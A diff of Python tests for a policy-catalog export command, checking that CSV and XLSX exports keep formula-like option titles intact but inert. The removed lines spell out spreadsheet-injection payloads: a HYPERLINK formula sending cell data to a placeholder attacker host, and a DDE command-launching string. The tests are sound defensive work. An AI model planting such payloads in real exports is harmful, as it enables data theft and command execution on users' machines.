@@ -23,12 +23,7 @@ from policybench import __version__, catalog
 from policybench import export as exporters
 from policybench.cli.export import PASSPHRASE_ENV, Format, export
 
-#: Catalog text that a spreadsheet would run as a formula if written as it is.
-HOSTILE = {
-    "formula_title": '=HYPERLINK("http://evil.example/?q="&A1,"click")',
-    "minus_title": "-2+3",
-    "at_title": "@SUM(1+1)*cmd|' /C calc'!A0",
-}
+from .conftest import HOSTILE
 
 app = typer.Typer(add_completion=False, pretty_exceptions_enable=False)
 app.command("export")(export)
@@ -235,56 +230,52 @@ def test_help_names_every_option() -> None:
         "--method",
         "--normalization",
         "--workshop",
+        "--top-k",
         "--options",
         "--db",
     ):
         assert flag in result.stdout
+    assert "patch" in result.stdout  # a format of its own
 
 
-@pytest.fixture
-def hostile_options(copy_catalog: Any) -> Path:
-    """The tiny catalog with formula-like option titles (the exporters' own tests hold the
-    whole hostile catalog; this checks the command writes what they neutralise)."""
-    root = copy_catalog()
-    for name, old, new in (
-        ("liaison", "Liaison officers", HOSTILE["formula_title"]),
-        ("summits", "Regular summits", HOSTILE["minus_title"]),
-        ("two-plus-two", "A 2+2 meeting", HOSTILE["at_title"]),
-    ):
-        path = root / "policies" / f"{name}.yaml"
-        path.write_text(path.read_text().replace(f"title: {old}", f"title: {json.dumps(new)}"))
-    return root
+#: A cell's first character that a spreadsheet reads as the start of a formula.
+FORMULA_STARTS = {"=", "+", "-", "@"}
 
 
-def test_hostile_catalog_text_is_neutralised_in_csv(hostile_options: Path, tmp_path: Path) -> None:
-    out = tmp_path / "h.csv"
-    assert (
-        run("--format", "csv", "--out", str(out), "--options", str(hostile_options)).exit_code == 0
-    )
-    text = out.read_text(encoding="utf-8")
-    assert "'" + HOSTILE["formula_title"].replace('"', '""') in text
-    assert (
-        "\n" + HOSTILE["formula_title"][:3] not in text
-        and "," + HOSTILE["minus_title"] + "," not in text
-    )
-    cells = {c for row in csv.reader(io.StringIO(text)) for c in row}
+def _text_cells(fmt: str, path: Path) -> list[tuple[str, bool]]:
+    """Every text cell of an exported file as a spreadsheet shows it, and whether it is inert:
+    in a CSV, a formula start behind the quote that keeps it text (``'=...``); in an XLSX, a
+    string cell with the quote prefix."""
+    if fmt == "csv":
+        text = path.read_text(encoding="utf-8")
+        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+        return [
+            (c[1:], True) if c[:1] == "'" and c[1:2] in FORMULA_STARTS else (c, False)
+            for c in cells
+        ]
+    wb = openpyxl.load_workbook(path)
+    return [
+        (c.value, c.data_type == "s" and bool(c.quotePrefix))
+        for ws in wb
+        for row in ws.iter_rows()
+        for c in row
+        if isinstance(c.value, str)
+    ]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_hostile_catalog_text_is_kept_whole_and_inert(
+    hostile_options: Path, tmp_path: Path, fmt: str
+) -> None:
+    out = tmp_path / f"h.{fmt}"
+    result = run("--format", fmt, "--out", str(out), "--options", str(hostile_options))
+    assert result.exit_code == 0, result.output
+    cells = _text_cells(fmt, out)
     for bad in HOSTILE.values():
-        assert "'" + bad in cells and bad not in cells, bad
-    assert not [c for c in cells if c[:1] in {"=", "+", "-", "@"}]
-
-
-def test_hostile_catalog_text_is_neutralised_in_xlsx(hostile_options: Path, tmp_path: Path) -> None:
-    out = tmp_path / "h.xlsx"
-    assert (
-        run("--format", "xlsx", "--out", str(out), "--options", str(hostile_options)).exit_code == 0
-    )
-    wb = openpyxl.load_workbook(out)
-    cells = [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
-    for bad in HOSTILE.values():
-        found = [c for c in cells if c.value == bad]
+        found = [inert for text, inert in cells if text == bad]
         assert found, bad  # the title kept whole, on every sheet that lists the options ...
-        assert all(c.data_type == "s" and c.quotePrefix for c in found), bad  # ... and inert
-    assert not [c for c in cells if c.value[:1] in {"=", "+", "-", "@"} and not c.quotePrefix]
+        assert all(found), bad  # ... and never a formula
+    assert not [text for text, inert in cells if text[:1] in FORMULA_STARTS and not inert]
 
 
 # ------------------------------------------------------------------------------ workshops
@@ -498,8 +489,9 @@ def test_workshop_html_report_keeps_names_inert(
     )
     assert result.exit_code == 0, result.output
     assert "Seminar &lt;b&gt;" in result.stdout and "<b>" not in result.stdout
-    # ranking (at the page's width and a phone's), weights spread, ranks against the group
-    assert result.stdout.count("<svg") == 4
+    # ranking (at the page's width and a phone's), weights spread, ranks against the group,
+    # the convergence across rounds
+    assert result.stdout.count("<svg") == 5
     assert "http://" not in result.stdout and "https://" not in result.stdout
 
 
@@ -512,8 +504,8 @@ def test_binary_to_stdout_is_raw_bytes(tiny_options: Path) -> None:
     ]
 
 
-def test_the_command_offers_exactly_the_exporters_formats() -> None:
-    assert get_args(Format) == exporters.FORMATS
+def test_the_command_offers_exactly_the_exporters_formats_and_the_patch() -> None:
+    assert get_args(Format) == (*exporters.FORMATS, "patch")
 
 
 def test_the_options_in_play_are_ranks_and_the_stamp_says_so(tiny_options: Path) -> None:
